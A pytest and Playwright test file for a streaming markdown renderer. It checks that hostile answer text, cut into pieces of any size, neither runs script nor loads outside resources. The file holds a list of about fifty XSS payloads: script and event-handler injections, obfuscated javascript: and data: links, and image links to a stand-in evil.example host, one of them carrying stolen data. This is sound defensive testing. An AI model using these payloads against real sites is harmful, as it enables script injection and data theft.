"""Answers may hold anything: whatever is written, and however it is cut into deltas, nothing of it runs or loads."""

from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Page

from tests.page.conftest import Run

HOSTILE = [
    "<script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<svg onload=window.ran=1><script>window.ran=1</script></svg>",
    "<iframe src='javascript:parent.ran=1'></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data='//evil.example/x'></object><embed src='//evil.example/x'>",
    "<style>@import url(//evil.example/x.css)</style><p style='background:url(//evil.example/y)'>x</p>",
    "<base href='//evil.example/'><link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action='//evil.example/'><button autofocus onfocus=window.ran=1>go</button></form>",
    "<details open ontoggle=window.ran=1><summary>x</summary></details>",
    "<a href='javascript:window.ran=1'>x</a>",
    "[x](javascript:window.ran=1)",
    "[x](JaVaScRiPt:window.ran=1)",
    "[x]( javascript:window.ran=1 )",
    "[x](java\tscript:window.ran=1)",
    "[x](java\nscript:window.ran=1)",
    "[x](\x01javascript:window.ran=1)",
    "[x](&#106;avascript:window.ran=1)",
    "[x](javascript&colon;window.ran=1)",
    "[x](javascript://example.com/%0awindow.ran=1)",
    "[x](data:text/html,<script>parent.ran=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](https://user:password@evil.example/)",
    "[x](https://example.com/\" onmouseover=\"window.ran=1)",
    "[x](<javascript:window.ran=1>)",
    "[<img src=x onerror=window.ran=1>](https://example.com/)",
    "[![x](https://evil.example/a.png)](javascript:window.ran=1)",
    "![x](https://evil.example/a.png)",
    "![x](https://evil.example/?stolen=secret \"title\")",
    "![x](data:image/svg+xml,<svg onload=window.ran=1>)",
    "![x](//evil.example/a.png)",
    "![\"onerror=\"window.ran=1](x)",
    "<javascript:window.ran=1>",
    "javascript:window.ran=1 https://evil.example/javascript:window.ran=1",
    "```\"><script>window.ran=1</script>\ncode\n```",
    "```html onload=window.ran=1\n<script>window.ran = 1</script>\n```",
    "`<script>window.ran=1</script>`",
    "| <img src onerror=window.ran=1> | b |\n|---|---|\n| [x](javascript:window.ran=1) | ![y](//evil.example/z.png) |",
    "# <svg/onload=window.ran=1>\n> ![x](https://evil.example/q.png)\n\n- [ ] [x](javascript:window.ran=1)",
    "$$ \\href{javascript:window.ran=1}{x} $$ and \\( <img src=x onerror=window.ran=1> \\)",
    "**[x](javascript:window.ran=1)** _![x](https://evil.example/u.png)_ ~~<script>window.ran=1</script>~~",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
    "<template><script>window.ran=1</script></template><slot onslotchange=window.ran=1>",
    "1. <b onclick=window.ran=1>x</b>\n2. [a](https://example.com/)[b](javascript:window.ran=1)",
    "[x][1]\n\n[1]: javascript:window.ran=1",
    "\u200b\u202e<script>window.ran=1</script>",
]  # fmt: skip

# Everything dangerous that an element could be or carry, found after the text was written in the given pieces.
INSPECT = """async (markdown, { pieces }) => {
  const root = document.querySelector("#root");
  const streamed = document.createElement("div");
  const text = pieces.join("");
  root.replaceChildren(streamed);
  const answer = markdown.createMarkdown(streamed);
  let grown = "";
  const found = [];
  const allowed = new Set([
    "data-language", "href", "rel", "target", "start", "checked", "type", "disabled", "class", "tabindex", "role",
    "aria-label", "title",
  ]);
  const classes = new Set(["scroll-box", "image-note", "number"]);
  const inline = "P BR HR H3 H4 H5 H6 EM STRONG S CODE PRE A SPAN UL OL LI INPUT DIV BLOCKQUOTE";
  const tags = new Set([...inline.split(" "), "TABLE", "THEAD", "TBODY", "TR", "TH", "TD"]);
  const inspect = () => {
    for (const node of streamed.querySelectorAll("*")) {
      if (!tags.has(node.tagName)) found.push(`element ${node.tagName}`);
      for (const { name, value } of node.attributes) {
        if (!allowed.has(name)) found.push(`${node.tagName} ${name}=${value}`);
        if (name === "class" && !classes.has(value)) found.push(`class ${value}`);
      }
      if (node.hasAttribute("href") && !/^(https?|mailto):/.test(node.href)) found.push(`link ${node.href}`);
    }
  };
  for (const piece of pieces) {
    grown += piece;
    answer.stream(grown);
    inspect();
  }
  answer.showWhole(text);
  inspect();
  for (const link of streamed.querySelectorAll("a")) link.dispatchEvent(new MouseEvent("mouseover"));
  await new Promise((resolve) => setTimeout(resolve));
  return [found, window.ran ?? null];
}"""


@pytest.fixture
def foreign_requests(page: Page, site: str) -> list[str]:
    """Every address outside the site the page asked for."""
    asked: list[str] = []

    def note(request: Any) -> None:
        if not request.url.startswith((site, "data:,")):
            asked.append(request.url)

    page.on("request", note)
    return asked


def cut(text: str, size: int) -> list[str]:
    return [text[start : start + size] for start in range(0, len(text), size)]


def test_no_hostile_text_runs_or_loads_however_it_is_cut(run: Run, foreign_requests: list[str]) -> None:
    for text in HOSTILE:
        for size in (1, 2, 3, 7, len(text)):
            found, ran = run("markdown", INSPECT, {"pieces": cut(text, size)})
            assert (found, ran) == ([], None), (text, size)
    assert foreign_requests == []


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=3), sizes=st.lists(st.integers(1, 30), min_size=1))
def test_no_mixture_of_hostile_texts_at_any_cut_runs(run: Run, texts: list[str], sizes: list[int]) -> None:
    rest = "\n\n".join(texts)
    pieces: list[str] = []
    while rest:
        size = sizes[len(pieces) % len(sizes)]
        pieces.append(rest[:size])
        rest = rest[size:]
    assert run("markdown", INSPECT, {"pieces": pieces}) == [[], None]


RENDER = """(markdown, { pieces }) => {
  const streamed = document.createElement("div");
  const answer = markdown.createMarkdown(streamed);
  let grown = "";
  for (const piece of pieces) answer.stream(grown += piece);
  answer.showWhole(pieces.join(""));
  return streamed.innerHTML;
}"""


def test_an_answer_becomes_headings_tables_lists_and_safe_links(run: Run, site: str) -> None:
    text = "# Title\n\n| a | b |\n|---|---|\n| 1 | **2** |\n\n- one\n- two\n\n[out](https://example.com/a) [in](/t/1/)"
    html = run("markdown", RENDER, {"pieces": cut(text, 5)})
    assert "<h3>Title</h3>" in html
    assert '<div class="scroll-box" tabindex="0" role="region" aria-label="Table"><table>' in html
    assert "<strong>2</strong>" in html
    assert "<ul><li>one</li><li>two</li></ul>" in html
    assert '<a href="https://example.com/a" rel="noopener noreferrer nofollow" target="_blank">out</a>' in html
    assert f'<a href="{site}/t/1/">in</a>' in html


def test_an_image_is_only_named(run: Run) -> None:
    html = run("markdown", RENDER, {"pieces": ["![a chart](https://example.com/chart.png)"]})
    assert html == '<p><span class="image-note" title="Images are not loaded">a chart</span></p>'
